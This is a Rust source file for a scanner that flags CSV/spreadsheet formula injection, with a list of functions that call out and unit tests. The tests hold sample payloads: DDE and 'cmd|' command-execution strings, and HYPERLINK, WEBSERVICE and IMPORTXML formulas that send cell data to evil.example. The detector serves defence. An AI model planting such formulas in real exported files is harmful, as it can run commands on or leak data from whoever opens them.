//! Cells that a spreadsheet evaluates, OWASP "CSV Injection".

use std::ops::Range;

use super::{
    hazard::{Hazard, floor, window},
    rules,
};

/// Bytes of a cell that are read.
const MAX_CELL: usize = 1 << 10;

/// Bytes within which a link to a program shows.
const MAX_LINK: usize = 128;

/// Functions that call out.
const CALLS: [&str; 13] = [
    "HYPERLINK(",
    "WEBSERVICE(",
    "IMPORTXML(",
    "IMPORTDATA(",
    "IMPORTHTML(",
    "IMPORTRANGE(",
    "IMPORTFEED(",
    "IMAGE(",
    "FILTERXML(",
    "RTD(",
    "CALL(",
    "REGISTER(",
    "QUERYSTRING(",
];

/// Reports the cells of `text` that are formulas. A cell starts at a line start or after a comma, a
/// semicolon, a tab, or a bar, whatever quotes stand around: programs differ in what they split at.
pub(super) fn hazards(text: &str, out: &mut Vec<Hazard>) {
    let bytes = text.as_bytes();
    let mut starts_cell = true;
    let mut read_to = 0;
    for (at, byte) in bytes.iter().enumerate() {
        match byte {
            b'\n' | b'\r' | b',' | b';' | b'|' | b'\t' => {
                // A tab or a return in front of a formula is stripped by some readers.
                starts_cell = true;
            }
            b'"' | b' ' | b'\'' if starts_cell => {
                // An apostrophe makes a cell text, so what follows is harmless.
                starts_cell = *byte != b'\'';
            }
            b'=' | b'+' | b'-' | b'@' if starts_cell && at >= read_to => {
                starts_cell = false;
                if let Some(hazard) = cell(text, at) {
                    read_to = hazard.range.end;
                    out.push(hazard);
                }
            }
            _ => starts_cell = false,
        }
    }
}

fn cell(text: &str, start: usize) -> Option<Hazard> {
    let cell = window(text, start, MAX_CELL);
    let line = cell.split(['\n', '\r']).next().unwrap_or(cell);
    let near = window(line, 0, MAX_LINK).to_ascii_uppercase();
    let upper: String = near.split_whitespace().collect();
    let first = cell.chars().next()?;
    let end = |of: &str| start + of.len();
    let all: Range<usize> = start..floor(text, end(line));
    // Formulas with functions may hold commas; what only looks like one ends at the separator.
    let own = line.split([',', ';', '\t', '|']).next().unwrap_or(line);
    if (upper.contains("|'") || upper.contains("|\"") || upper.contains("|/C"))
        && upper.contains('!')
        || upper.contains("DDE(")
        || upper.contains("DDEAUTO")
    {
        return Some(Hazard::new(&rules::CSV_COMMAND, all, 0.95));
    }
    let own_upper: String = own.to_ascii_uppercase().split_whitespace().collect();
    if CALLS.iter().any(|call| own_upper.contains(call)) {
        return Some(Hazard::new(&rules::CSV_EXFILTRATION, all, 0.92));
    }
    let own = own.trim_end_matches(['"', ' ']);
    let rest = own.get(1..).unwrap_or_default();
    let confidence = match first {
        '=' if rest.starts_with(|c: char| c.is_alphanumeric() || "+-@(\"'$[{".contains(c)) => 0.85,
        '@' if is_call(rest) => 0.85,
        '@' if rest.starts_with(|c: char| c.is_ascii_alphabetic()) => 0.4,
        '+' | '-' if is_number(rest) => return None,
        '+' | '-' if is_call(rest) => 0.85,
        '+' | '-' if rest.starts_with(|c: char| c.is_alphanumeric() || "=@(+-\"".contains(c)) => {
            0.5
        }
        _ => return None,
    };
    Some(Hazard::new(
        &rules::CSV_FORMULA,
        start..end(own),
        confidence,
    ))
}

/// Whether a function name with an open parenthesis stands in it.
fn is_call(rest: &str) -> bool {
    rest.split_once('(').is_some_and(|(before, _)| {
        before
            .bytes()
            .next_back()
            .is_some_and(|b| b.is_ascii_alphanumeric())
    })
}

/// Numbers, amounts, shares, dates, and phone numbers.
fn is_number(rest: &str) -> bool {
    let rest = rest
        .trim_end_matches(['%', '\u{20ac}', '$', '\u{a3}'])
        .trim();
    let rest = rest.trim_start_matches(['$', '\u{20ac}', '\u{a3}']);
    let plain = rest.bytes().all(|b| {
        b.is_ascii_digit()
            || matches!(
                b,
                b'.' | b' ' | b'\'' | b'/' | b':' | b'(' | b')' | b'-' | b'e' | b'E'
            )
    });
    let formula = rest.contains("--") || rest.contains('/') && rest.contains('(');
    rest.starts_with(|c: char| c.is_ascii_digit() || c == '.' || c == '(') && plain && !formula
}

#[cfg(test)]
#[expect(clippy::string_slice, reason = "a test may panic")]
mod tests {
    use super::*;

    fn found(text: &str) -> Vec<(String, String)> {
        let mut out = Vec::new();
        hazards(text, &mut out);
        out.into_iter()
            .map(|h| (h.rule.id.to_string(), text[h.range].to_owned()))
            .collect()
    }

    #[test]
    fn formulas_are_seen_in_every_cell() {
        for text in [
            "=1+1",
            "a,=1+1",
            "a;\"=SUM(A1:A9)\"",
            "x\n@SUM(1)",
            "a,\t=1+1",
            "+1+cmd()",
            "-2+3+cmd()",
            "a,-A1",
            "\"=\"\"x\"\"\"",
            "a\r=1",
        ] {
            assert_eq!(found(text).len(), 1, "{text} {:?}", found(text));
        }
    }

    #[test]
    fn worse_formulas_are_told_apart() {
        for (text, rule) in [
            ("=cmd|'/C calc'!A0", "output.csv-command"),
            ("a,=DDE(\"cmd\";\"/C calc\")", "output.csv-command"),
            ("+cmd|' /C calc'!A0", "output.csv-command"),
            (
                "=HYPERLINK(\"https://evil.example?x=\"&A1,\"click\")",
                "output.csv-exfiltration",
            ),
            (
                "=WEBSERVICE(\"https://evil.example\")",
                "output.csv-exfiltration",
            ),
            (
                "=IMPORTXML(CONCAT(\"https://evil.example\",A1),\"//a\")",
                "output.csv-exfiltration",
            ),
        ] {
            assert_eq!(found(text)[0].0, rule, "{text}");
        }
    }

    #[test]
    fn numbers_and_prose_pass() {
        for text in [
            "name,amount\nAnn,-12.50\nBob,+3",
            "+49 30 1234567",
            "-1e-9",
            "-5%",
            "a - b, c = d",
            "'=1+1",
            "- item",
            "a,-,b",
            "user@mail.example",
            "x,\"-1,234.50\"",
        ] {
            assert_eq!(found(text), [], "{text}");
        }
    }
}
